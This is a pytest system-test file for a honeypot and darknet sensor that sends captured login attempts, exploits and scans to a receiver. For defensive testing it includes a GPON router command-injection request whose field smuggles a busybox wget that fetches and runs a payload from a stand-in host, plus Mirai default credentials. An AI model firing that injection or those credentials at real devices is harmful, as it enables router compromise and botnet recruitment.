# SPDX-License-Identifier: MIT
# System tests of nameplate-sensor: the honeypot listeners, the darknet capture (in network
# namespaces), the spool with retries and restarts, the privilege drop, and the push to a
# receiver: a small HTTP server in this process, and (when built) the real nameplated.

import contextlib
import http.server
import json
import os
import pwd
import re
import signal
import socket
import stat
import subprocess
import threading
import time

import pytest

from conftest import BUILD, check_sanitizers, free_port, wait_for
import netns
from packets import ACK, SYN, mirai_syn, tcp_packet

SENSOR = os.path.join(BUILD, "nameplate-sensor")
TOKEN = "s1:Zm9vYmFyYmF6cXV4cXV1eHF1dXhxdXV4cXV1eHF1dXhx"
ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (CI runs as root)")


# -- a batch receiver standing in for nameplated --------------------------------------------

class Receiver:
    """An HTTP server on loopback (or on a socket made elsewhere, e.g. in a namespace) that
    takes POST /api/v1/sensor/batch like nameplated: dedupes by batch id, answers status."""

    def __init__(self, sock=None):
        self.lock = threading.Lock()
        self.batches = []     # accepted batch documents, in arrival order
        self.requests = []    # (path, headers, body) of every request
        self.ids = {}         # batch id -> times received
        self.status = 200
        self.port = None
        self.server = None
        self.thread = None
        self.start(sock=sock)

    def start(self, port=None, sock=None):
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_POST(self):
                n = int(self.headers.get("Content-Length", "0"))
                body = self.rfile.read(n)
                with owner.lock:
                    owner.requests.append((self.path, dict(self.headers), body))
                    status = owner.status
                    answer = {"error": "busy"}
                    if status == 200:
                        doc = json.loads(body)
                        dup = doc["batch"] in owner.ids
                        owner.ids[doc["batch"]] = owner.ids.get(doc["batch"], 0) + 1
                        if not dup:
                            owner.batches.append(doc)
                        answer = {"accepted": len(doc["events"]), "duplicate": dup}
                data = json.dumps(answer).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        if sock is not None:
            srv = http.server.ThreadingHTTPServer(sock.getsockname()[:2], Handler,
                                                  bind_and_activate=False)
            srv.socket.close()
            srv.socket = sock
            sock.listen(16)
        else:
            srv = http.server.ThreadingHTTPServer(("127.0.0.1", port or 0), Handler)
        srv.daemon_threads = True
        self.server = srv
        self.port = srv.server_address[1]
        self.thread = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.1},
                                       daemon=True)
        self.thread.start()

    def stop(self):
        if self.server is not None:
            self.server.shutdown()
            self.server.server_close()
            self.thread.join(5)
            self.server = None

    @property
    def url(self):
        return "http://127.0.0.1:%d" % self.port

    def events(self):
        with self.lock:
            return [e for b in self.batches for e in b["events"]]

    def wait_event(self, pred, timeout=15):
        return wait_for(lambda: [e for e in self.events() if pred(e)], timeout)


# -- the sensor process ----------------------------------------------------------------------

class Sensor:
    def __init__(self, tmp, server_url, listen=None, darknet=None, user="nobody", extra="",
                 interval=1):
        self.tmp = str(tmp)
        self.conf = os.path.join(self.tmp, "sensor.conf")
        self.token_file = os.path.join(self.tmp, "sensor.token")
        self.spool = os.path.join(self.tmp, "spool")
        self.log_path = os.path.join(self.tmp, "sensor.log")
        self.proc = None
        self.ports = {}
        os.makedirs(self.tmp, exist_ok=True)
        with open(self.token_file, "w") as f:
            f.write(TOKEN + "\n")
        os.chmod(self.token_file, 0o600)
        lines = ["[sensor]", "server = %s" % server_url, "token_file = %s" % self.token_file,
                 "spool_dir = %s" % self.spool, "user = %s" % user,
                 "batch_interval = %d" % interval, "log_level = debug"]
        if extra:
            lines.append(extra)
        for svc in (listen or ()):
            self.ports[svc] = free_port()
            lines += ["", "[%s]" % svc, "listen = 127.0.0.1:%d" % self.ports[svc]]
        if darknet:
            lines += ["", "[darknet]"] + ["%s = %s" % kv for kv in darknet.items()]
        with open(self.conf, "w") as f:
            f.write("\n".join(lines) + "\n")

    def start(self, prefix=(), wait=True):
        self.logf = open(self.log_path, "a")
        self.proc = subprocess.Popen(list(prefix) + [SENSOR, "-c", self.conf],
                                     stdin=subprocess.DEVNULL, stdout=self.logf,
                                     stderr=subprocess.STDOUT, start_new_session=True)
        if wait:
            ok = wait_for(lambda: "sensor running" in self.log() or self.proc.poll() is not None,
                          15)
            assert ok and self.proc.poll() is None, "sensor did not start:\n" + self.log()
        return self.proc

    def log(self):
        with open(self.log_path, errors="replace") as f:
            return f.read()

    def stop(self, timeout=10):
        if self.proc is None or self.proc.poll() is not None:
            return self.proc.returncode if self.proc else None
        os.killpg(self.proc.pid, signal.SIGTERM)
        try:
            self.proc.wait(timeout)
        except subprocess.TimeoutExpired:
            os.killpg(self.proc.pid, signal.SIGKILL)
            self.proc.wait(5)
            pytest.fail("sensor did not stop on SIGTERM within %d s:\n%s" % (timeout, self.log()))
        self.logf.close()
        check_sanitizers(self.log(), "nameplate-sensor")
        return self.proc.returncode

    def spooled(self):
        try:
            return sorted(n for n in os.listdir(self.spool) if n.endswith(".json"))
        except FileNotFoundError:
            return []

    def rejected(self):
        return sorted(os.listdir(os.path.join(self.spool, "rejected")))


@pytest.fixture
def receiver():
    r = Receiver()
    yield r
    r.stop()


@pytest.fixture
def sensors():
    made = []
    yield made
    for s in made:
        s.stop()


def run_check(tmp, text, token_mode=0o600):
    conf = os.path.join(str(tmp), "c.conf")
    tok = os.path.join(str(tmp), "t.token")
    with open(tok, "w") as f:
        f.write(TOKEN + "\n")
    os.chmod(tok, token_mode)
    with open(conf, "w") as f:
        f.write(text.replace("TOKEN", tok))
    r = subprocess.run([SENSOR, "-c", conf, "--check-config"], capture_output=True, text=True,
                       timeout=10)
    check_sanitizers(r.stderr, "nameplate-sensor --check-config")
    return r


def telnet_read_until(s, marker, timeout=5):
    buf = b""
    end = time.monotonic() + timeout
    while marker not in buf and time.monotonic() < end:
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            chunk = s.recv(4096)
        except socket.timeout:
            break
        if not chunk:
            break
        buf += chunk
    assert marker in buf, "no %r in %r" % (marker, buf)
    return buf


# -- tests -----------------------------------------------------------------------------------

BASE = ("[sensor]\nserver = http://127.0.0.1:9\ntoken_file = TOKEN\nspool_dir = /tmp/x\n"
        "user = nobody\n")


def test_check_config(tmp_path):
    r = run_check(tmp_path, BASE + "[telnet]\nlisten = 127.0.0.1:2323\n")
    assert r.returncode == 0, r.stderr
    assert "ok" in r.stdout


@pytest.mark.parametrize("text,message", [
    (BASE + "bogus = 1\n[telnet]\nlisten = 127.0.0.1:2323\n", r"c\.conf:6: unknown key 'bogus'"),
    (BASE + "[telnet]\nlisten = 127.0.0.1:2323\n[ssh]\n", r"c\.conf:8: unknown section \[ssh\]"),
    (BASE + "[telnet]\nlisten = 127.0.0.1\n", r"c\.conf:7: bad value for 'listen'"),
    (BASE + "batch_max = 20001\n[plain]\nlisten = 127.0.0.1:5555\n", r":6: bad value for 'batch_max'"),
    (BASE, r"nothing to observe"),
    (BASE + "research = 192.0.2.0/24 nonsense\n[http]\nlisten = 127.0.0.1:8080\n",
     r":6: bad value for 'research'"),
    (BASE + "[darknet]\naddresses = 198.51.100.0/24\n", r":6: missing 'interface' in \[darknet\]"),
    (BASE.replace("server = http://127.0.0.1:9", "server = http://u:p@127.0.0.1:9")
     + "[telnet]\nlisten = 127.0.0.1:2323\n", r":2: bad value for 'server'"),
])
def test_config_errors(tmp_path, text, message):
    r = run_check(tmp_path, text)
    assert r.returncode != 0
    assert re.search(message, r.stderr), r.stderr


def test_token_file_must_be_private(tmp_path):
    r = run_check(tmp_path, BASE + "[telnet]\nlisten = 127.0.0.1:2323\n", token_mode=0o640)
    assert r.returncode != 0
    assert "readable by others" in r.stderr


@ROOT_ONLY
def test_root_without_user_is_refused(tmp_path):
    r = run_check(tmp_path, BASE.replace("user = nobody", "user =") +
                  "[telnet]\nlisten = 127.0.0.1:2323\n")
    assert r.returncode != 0
    assert "refusing to run as root" in r.stderr


@ROOT_ONLY
def test_honeypots_and_privileges(tmp_path, receiver, sensors):
    s = Sensor(tmp_path, receiver.url, listen=("telnet", "http", "plain"))
    sensors.append(s)
    s.start()

    # Privileges: every uid and gid is nobody's, no supplementary groups, no capabilities.
    nobody = pwd.getpwnam("nobody")
    with open("/proc/%d/status" % s.proc.pid) as f:
        status = dict(line.split(":", 1) for line in f.read().splitlines() if ":" in line)
    assert status["Uid"].split() == [str(nobody.pw_uid)] * 4
    assert status["Gid"].split() == [str(nobody.pw_gid)] * 4
    assert status["Groups"].split() == []
    assert int(status["CapEff"], 16) == 0 and int(status["CapPrm"], 16) == 0
    st = os.stat(s.spool)
    assert st.st_uid == nobody.pw_uid and stat.S_IMODE(st.st_mode) == 0o700

    # Telnet: a Mirai default pair, IAC negotiation in the input, CR NUL line ends.
    with socket.create_connection(("127.0.0.1", s.ports["telnet"]), timeout=5) as c:
        first = telnet_read_until(c, b"login: ")
        assert first.startswith(b"\xff\xfb")  # the server negotiates (IAC WILL ...)
        c.sendall(b"\xff\xfd\x01\xff\xfc\x1f" + b"root\r\n")
        telnet_read_until(c, b"Password: ")
        c.sendall(b"xc3511\r\x00")
        out = telnet_read_until(c, b"Login incorrect")
        assert b"$" not in out and b"#" not in out
        telnet_read_until(c, b"login: ")
        c.sendall(b"admin\n\xff\xff\x01pw\n")   # IAC IAC is a data byte, then stripped
        telnet_read_until(c, b"Login incorrect")
        for i in range(3):
            c.sendall(b"u%d\r\np%d\r\n" % (i, i))
        # After five attempts the honeypot hangs up.
        c.settimeout(5)
        data = b""
        for _ in range(100):
            chunk = c.recv(4096)
            if not chunk:
                break
            data += chunk
        assert data.count(b"Login incorrect") == 3

    tport = s.ports["telnet"]
    login = receiver.wait_event(lambda e: e["kind"] == "login" and e.get("user") == "root")
    assert login, "no login event; sensor log:\n" + s.log()
    e = login[0]
    assert e["pass"] == "xc3511" and e["port"] == tport and e["proto"] == 6
    assert e["src"] == "127.0.0.1" and abs(e["t"] - time.time()) < 60
    assert receiver.wait_event(lambda e: e["kind"] == "login" and e.get("user") == "admin"
                               and e.get("pass") == "?pw")
    assert receiver.wait_event(lambda e: e["kind"] == "connect" and e.get("port") == tport)

    # HTTP: a GPON exploit path, and a plain request.
    def http_get(path, body=None):
        with socket.create_connection(("127.0.0.1", s.ports["http"]), timeout=5) as c:
            method = "POST" if body else "GET"
            req = "%s %s HTTP/1.1\r\nHost: x\r\nUser-Agent: Hello, World\r\n" % (method, path)
            if body:
                req += "Content-Length: %d\r\n" % len(body)
            c.sendall((req + "\r\n" + (body or "")).encode())
            resp = b""
            for _ in range(100):
                chunk = c.recv(4096)
                if not chunk:
                    break
                resp += chunk
            return resp

    resp = http_get("/GponForm/diag_Form?images/",
                    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget"
                    "+http://203.0.113.9/m+-O+/tmp/m`;sh+/tmp/m")
    assert resp.startswith(b"HTTP/1.1 404")
    http_get("/")
    # A peer that announces a body and hangs up before sending it: still an exploit.
    with socket.create_connection(("127.0.0.1", s.ports["http"]), timeout=5) as c:
        c.sendall(b"POST /picsdesc.xml HTTP/1.1\r\nContent-Length: 500\r\n\r\n<?xml")
    hport = s.ports["http"]
    assert wait_for(lambda: sum(e.get("n", 1) for e in receiver.events()
                                if e["kind"] == "http_exploit" and e["port"] == hport) == 2, 15)
    assert receiver.wait_event(lambda e: e["kind"] == "download" and e["port"] == hport)
    assert receiver.wait_event(lambda e: e["kind"] == "connect" and e["port"] == hport)
    assert "/GponForm/diag_Form" in s.log() and "Hello, World" in s.log()
    assert "POST /picsdesc.xml" in s.log()

    # Plain: a connection with a few bytes.
    with socket.create_connection(("127.0.0.1", s.ports["plain"]), timeout=5) as c:
        c.sendall(b"\x00" * 100)
    pport = s.ports["plain"]
    assert receiver.wait_event(lambda e: e["kind"] == "connect" and e["port"] == pport)

    # What the receiver saw on the wire.
    path, headers, body = receiver.requests[0]
    assert path == "/api/v1/sensor/batch"
    assert headers["Authorization"] == "Bearer " + TOKEN
    assert headers["Content-Type"] == "application/json"
    assert s.stop() == 0
    assert TOKEN.split(":")[1] not in s.log()


@ROOT_ONLY
def test_honeypot_limits(tmp_path, receiver, sensors):
    s = Sensor(tmp_path, receiver.url, listen=("telnet", "http"))
    sensors.append(s)
    s.start()
    # At most 8 connections per source: the rest are closed at once (but still recorded).
    conns = [socket.create_connection(("127.0.0.1", s.ports["telnet"]), timeout=5)
             for _ in range(12)]
    closed = 0
    for c in conns:
        c.settimeout(2)
        data = b""
        try:
            for _ in range(10):
                chunk = c.recv(4096)
                if not chunk:
                    closed += 1
                    break
                data += chunk
                if b"login: " in data:
                    break
        except socket.timeout:
            pass
    assert closed == 4, closed
    # Hostile input: a huge line, binary junk and IAC floods get a bounded answer.
    c = conns[0]
    c.sendall(b"A" * 100000 + b"\r\n")
    c.settimeout(5)
    try:
        while c.recv(65536):
            pass
    except (ConnectionResetError, socket.timeout):
        pass
    for c in conns:
        c.close()
    with socket.create_connection(("127.0.0.1", s.ports["http"]), timeout=5) as c:
        c.sendall(b"\x16\x03\x01" + os.urandom(3000))
        c.settimeout(5)
        try:
            assert c.recv(4096) in (b"",)
        except ConnectionResetError:
            pass
    tport, hport = s.ports["telnet"], s.ports["http"]
    assert wait_for(lambda: sum(e.get("n", 1) for e in receiver.events()
                                if e["kind"] == "connect" and e["port"] == tport) == 12, 15)
    assert receiver.wait_event(lambda e: e["kind"] == "connect" and e["port"] == hport)
    assert s.proc.poll() is None
    assert s.stop() == 0


@ROOT_ONLY
def test_spool_retry_and_restart(tmp_path, receiver, sensors):
    port = receiver.port
    receiver.stop()                    # nameplated is down
    s = Sensor(tmp_path, receiver.url, listen=("plain",))
    sensors.append(s)
    s.start()
    for i in range(3):
        with socket.create_connection(("127.0.0.1", s.ports["plain"]), timeout=5):
            pass
        time.sleep(1.2)                # one batch per interval
    assert wait_for(lambda: len(s.spooled()) >= 2, 10), s.log()
    assert "retrying in" in s.log()
    receiver.start(port=port)          # back: the backoff (<= 4 s here) retries
    assert wait_for(lambda: sum(e.get("n", 1) for e in receiver.events()
                                if e["kind"] == "connect") == 3 and not s.spooled(), 20), s.log()
    assert len(receiver.batches) >= 2
    assert all(n == 1 for n in receiver.ids.values()), receiver.ids

    # Down again; the sensor stops with spooled batches; a new start sends them.
    receiver.stop()
    with socket.create_connection(("127.0.0.1", s.ports["plain"]), timeout=5):
        pass
    assert s.stop() == 0               # flushes the pending event to the spool
    left = s.spooled()
    assert len(left) >= 1, s.log()
    ids = [re.match(r"b\d+-\d+-([0-9a-f]+)\.json$", n).group(1) for n in left]
    receiver.start(port=port)
    s.start()
    assert wait_for(lambda: all(i in receiver.ids for i in ids), 15), s.log()
    assert wait_for(lambda: not s.spooled(), 5)
    assert all(n == 1 for n in receiver.ids.values()), receiver.ids
    assert s.stop() == 0


@ROOT_ONLY
def test_rejected_batch_is_set_aside(tmp_path, receiver, sensors):
    receiver.status = 400
    s = Sensor(tmp_path, receiver.url, listen=("plain",))
    sensors.append(s)
    s.start()
    with socket.create_connection(("127.0.0.1", s.ports["plain"]), timeout=5):
        pass
    assert wait_for(lambda: s.rejected(), 10), s.log()
    n = len(receiver.requests)
    time.sleep(2.5)
    assert len(receiver.requests) == n      # never retried
    assert not s.spooled()
    assert "rejected" in s.log()
    receiver.status = 503                   # busy: kept and retried
    with socket.create_connection(("127.0.0.1", s.ports["plain"]), timeout=5):
        pass
    assert wait_for(lambda: len(receiver.requests) >= n + 2, 10), s.log()
    assert len(s.spooled()) == 1 and len(s.rejected()) == 1
    receiver.status = 200
    assert wait_for(lambda: not s.spooled(), 10), s.log()
    assert s.stop() == 0


@ROOT_ONLY
def test_spool_cap_drops_oldest(tmp_path, receiver, sensors):
    receiver.stop()                    # nothing leaves the spool
    s = Sensor(tmp_path, receiver.url, listen=("plain",), extra="spool_max_mb = 1")
    sensors.append(s)
    # Three old 400 KB batches from an earlier run (1.2 MB: over the cap once one more
    # batch arrives), and the leftover of an interrupted write.
    nobody = pwd.getpwnam("nobody")
    os.makedirs(s.spool, mode=0o700)
    old = ["b%015d-%06d-%032x.json" % (1000 + i, i, i) for i in range(3)]
    for name in old:
        with open(os.path.join(s.spool, name), "w") as f:
            f.write('{"batch": "x", "events": []}' + " " * (400 * 1024))
    with open(os.path.join(s.spool, ".tmp-deadbeef"), "w") as f:
        f.write("partial")
    for name in os.listdir(s.spool):   # written by that run's user
        os.chown(os.path.join(s.spool, name), nobody.pw_uid, nobody.pw_gid)
    s.start()
    assert not os.path.exists(os.path.join(s.spool, ".tmp-deadbeef"))
    with socket.create_connection(("127.0.0.1", s.ports["plain"]), timeout=5):
        pass
    assert wait_for(lambda: len(s.spooled()) == 3 and old[0] not in s.spooled(), 10), \
        (s.spooled(), s.log())
    assert s.spooled()[:2] == old[1:]
    assert "dropping the oldest batch %s" % old[0] in s.log()
    total = sum(os.path.getsize(os.path.join(s.spool, n)) for n in s.spooled())
    assert total <= 1 << 20
    assert s.stop() == 0



@ROOT_ONLY
def test_spool_entries_are_never_handed_over_as_root(tmp_path, receiver, sensors):
    """The spool belongs to the sensor's user, whom hostile traffic may compromise: what it
    plants under a batch name (a hard link to a root-owned file, a symlink, a FIFO) must not
    make the next start as root give that file away, nor hang it; such entries are set
    aside, and the genuine batches beside them are still sent."""
    nobody = pwd.getpwnam("nobody")
    s = Sensor(tmp_path / "s", receiver.url, listen=("plain",))
    sensors.append(s)
    os.makedirs(s.spool, mode=0o700)
    os.chown(s.spool, nobody.pw_uid, nobody.pw_gid)

    secret = tmp_path / "root-only"      # outside the spool, same file system
    secret.write_text("root's\n")
    os.chown(secret, 0, 0)
    os.chmod(secret, 0o600)
    linked = tmp_path / "root-linked"
    linked.write_text("root's too\n")
    os.chown(linked, 0, 0)
    os.chmod(linked, 0o644)

    def name(i):
        return "b%015d-%06d-%032x.json" % (1000 + i, i, i)

    os.link(secret, os.path.join(s.spool, name(1)))
    os.link(linked, os.path.join(s.spool, name(2)))
    os.symlink(secret, os.path.join(s.spool, name(3)))
    os.mkfifo(os.path.join(s.spool, name(4)))
    genuine = name(5)
    bid = "%032x" % 5
    with open(os.path.join(s.spool, genuine), "w") as f:
        json.dump({"batch": bid, "events": []}, f)
    for n in (name(4), genuine):         # what the sensor's user wrote itself
        os.chown(os.path.join(s.spool, n), nobody.pw_uid, nobody.pw_gid, follow_symlinks=False)
    os.lchown(os.path.join(s.spool, name(3)), nobody.pw_uid, nobody.pw_gid)

    s.start()                            # the spool has been looked at once it runs
    for f, text, mode in ((secret, "root's\n", 0o600), (linked, "root's too\n", 0o644)):
        st = os.lstat(f)
        assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (0, 0, mode), f
        assert f.read_text() == text
    assert wait_for(lambda: bid in receiver.ids and not s.spooled(), 10), s.log()
    assert sorted(s.rejected()) == [name(i) for i in (1, 2, 3, 4)], s.log()
    assert os.path.islink(os.path.join(s.spool, "rejected", name(3)))
    log = s.log()
    assert "%s is owned by another user (uid 0): set aside" % name(1) in log
    assert "%s is not a regular file" % name(3) in log
    assert "%s is not a regular file" % name(4) in log
    assert len(receiver.batches) == 1    # nothing but the genuine batch was sent
    assert s.proc.poll() is None
    assert s.stop() == 0
    assert os.stat(secret).st_uid == 0 and os.stat(linked).st_uid == 0

# -- darknet --------------------------------------------------------------------------------

@contextlib.contextmanager
def darknet_lab(tmp_path):
    """A "sensor" namespace whose veth dk0 (10.77.0.1) is the capture interface, a "bot"
    namespace (10.77.0.2) that routes the darknet 198.51.100.0/24 to it, a raw socket in
    the bot's namespace and a batch receiver inside the sensor's (where the sensor pushes).
    Yields (sensor namespace, raw socket, receiver); everything is torn down after."""
    lab = netns.Lab(tmp_path)
    try:
        sns, bot = lab.ns("sensor"), lab.ns("bot")
        lab.veth(sns, "dk0", bot, "bt0")
        sns.ip("addr", "add", "10.77.0.1/24", "dev", "dk0")
        bot.ip("addr", "add", "10.77.0.2/24", "dev", "bt0")
        bot.ip("route", "add", "198.51.100.0/24", "via", "10.77.0.1")
        sock = sns.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("127.0.0.1", 0))
        rcv = Receiver(sock=sock)
        raw = bot.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        try:
            yield sns, raw, rcv
        finally:
            raw.close()
            rcv.stop()
    finally:
        lab.close()


def darknet_sensor(tmp_path, sns, rcv, sensors, **kw):
    """A sensor capturing on dk0 in namespace sns, pushing to rcv."""
    s = Sensor(tmp_path, rcv.url, darknet={"interface": "dk0", "addresses": "198.51.100.0/24"},
               **kw)
    sensors.append(s)
    s.start(prefix=["ip", "netns", "exec", sns.name])
    return s


def send(raw, pkt):
    raw.sendto(pkt, (socket.inet_ntoa(pkt[16:20]), 0))


@ROOT_ONLY
def test_darknet_capture(tmp_path, sensors):
    with darknet_lab(tmp_path) as (sns, raw, rcv):
        s = darknet_sensor(tmp_path, sns, rcv, sensors, extra="research = 10.77.0.99/32")
        for d in ("198.51.100.7", "198.51.100.8", "198.51.100.9", "198.51.100.10",
                  "198.51.100.11"):
            send(raw, mirai_syn("10.77.0.2", d, 40000, 23))
        # An ordinary scan SYN to 2323 (random seq), a backscatter SYN-ACK from a "victim",
        # a research-range SYN, and a packet outside the darknet.
        send(raw, tcp_packet("10.77.0.2", "198.51.100.20", 40000, 2323, 12345, SYN))
        send(raw, tcp_packet("10.77.0.3", "198.51.100.21", 80, 40001, 999, SYN | ACK))
        send(raw, mirai_syn("10.77.0.99", "198.51.100.22", 40002, 23))
        send(raw, tcp_packet("10.77.0.2", "10.77.0.1", 40003, 23, 1, SYN))

        def got(kind, src):
            return [e for e in rcv.events() if e["kind"] == kind and e["src"] == src]

        assert wait_for(lambda: got("mirai_syn", "10.77.0.2") and got("backscatter", "10.77.0.3")
                        and got("research", "10.77.0.99") and got("scan", "10.77.0.2"),
                        15), "events: %r\nlog:\n%s" % (rcv.events(), s.log())
        time.sleep(1.5)
        mirai = got("mirai_syn", "10.77.0.2")
        assert sum(e.get("n", 1) for e in mirai) == 5
        assert all(e["port"] == 23 and e["proto"] == 6 for e in mirai)
        assert len(mirai) <= 2    # aggregated (at most split by a batch boundary)
        assert [e["port"] for e in got("scan", "10.77.0.2")] == [2323]
        assert not [e for e in rcv.events() if e["src"] == "10.77.0.2"
                    and e.get("port") == 23 and e["kind"] != "mirai_syn"]
        assert s.stop() == 0


@ROOT_ONLY
def test_lost_capture_saves_events_and_exits(tmp_path, sensors):
    """The capture interface disappears: the sensor cannot reopen it (it has given up its
    privileges), so it pushes what it saw and exits 3 for its service manager to restart
    it, instead of running on blind."""
    with darknet_lab(tmp_path) as (sns, raw, rcv):
        # A long batch interval: only the exit path can deliver these events.
        s = darknet_sensor(tmp_path, sns, rcv, sensors, interval=300)
        for d in ("198.51.100.7", "198.51.100.8", "198.51.100.9"):
            send(raw, mirai_syn("10.77.0.2", d, 40000, 23))
        time.sleep(1)
        assert s.proc.poll() is None
        sns.ip("link", "del", "dk0")
        s.proc.wait(10)
        assert s.proc.returncode == 3, s.log()
        assert "darknet capture lost" in s.log()
        check_sanitizers(s.log(), "nameplate-sensor")
        mirai = [e for e in rcv.events() if e["kind"] == "mirai_syn" and e["src"] == "10.77.0.2"]
        assert sum(e.get("n", 1) for e in mirai) == 3, (rcv.events(), s.log())


# -- end to end: the real nameplated ---------------------------------------------------------

@ROOT_ONLY
def test_end_to_end_with_nameplated(np_factory, tmp_path, sensors):
    import base64
    np = np_factory()
    np.write_config(extra="[check]\nper_address_hour = 1000")  # the test polls the API
    np.init()
    np.add_user("alice")
    np.secret = np.add_host("home.dyn.example", "alice")
    np.start()
    r = np.ctl("sensor", "add", "lab1")
    token = r.stdout.strip()
    assert re.fullmatch(r"lab1:\S{20,}", token), r.stdout
    assert "shown only now" in r.stderr
    listed = np.ctl("sensor", "list").stdout
    assert re.search(r"^lab1\t\S+Z\tnever$", listed, re.M), listed

    s = Sensor(tmp_path / "sensor", "http://127.0.0.1:%d" % np.http_port, listen=("telnet",))
    with open(s.token_file, "w") as f:
        f.write(token + "\n")
    sensors.append(s)
    s.start()
    pairs = [(b"root", b"xc3511"), (b"root", b"vizxv"), (b"admin", b"admin")]
    with socket.create_connection(("127.0.0.1", s.ports["telnet"]), timeout=5) as c:
        for user, pw in pairs:
            telnet_read_until(c, b"login: ")
            c.sendall(user + b"\r\n")
            telnet_read_until(c, b"Password: ")
            c.sendall(pw + b"\r\n")
            telnet_read_until(c, b"Login incorrect")

    # The owner of home.dyn.example asks about the address the server sees: 127.0.0.1.
    cred = base64.b64encode(("home.%s:%s" % ("dyn.example", np.secret)).encode()).decode()

    last = {}

    def verdict():
        st, _, body = np.http("/api/v1/check", headers={"Authorization": "Basic " + cred})
        last["answer"] = (st, body)
        if st != 200:
            return None
        v = json.loads(body)
        return v if v["verdict"] == "infected" else None

    v = wait_for(verdict, 30, interval=0.2)
    assert v, "no infected verdict: %r; sensor log:\n%s" % (last, s.log())
    creds = {(c["user"], c["pass"]) for c in v["evidence"]["credentials"]}
    assert ("root", "xc3511") in creds and ("admin", "admin") in creds
    assert v["evidence"]["login_attempts"] >= 3
    assert not s.spooled() and not s.rejected()
    listed = np.ctl("sensor", "list").stdout
    assert not re.search(r"^lab1\t.*\tnever$", listed, re.M), listed

    # A deleted sensor's batches are refused (401) and set aside, never retried.
    np.ctl("sensor", "del", "lab1")
    with socket.create_connection(("127.0.0.1", s.ports["telnet"]), timeout=5):
        pass
    assert wait_for(lambda: s.rejected(), 15), s.log()
    assert "(HTTP 401)" in s.log()
    assert s.stop() == 0
    r = np.ctl("sensor", "del", "lab1", check=False)
    assert r.returncode != 0 and "no sensor lab1" in r.stderr
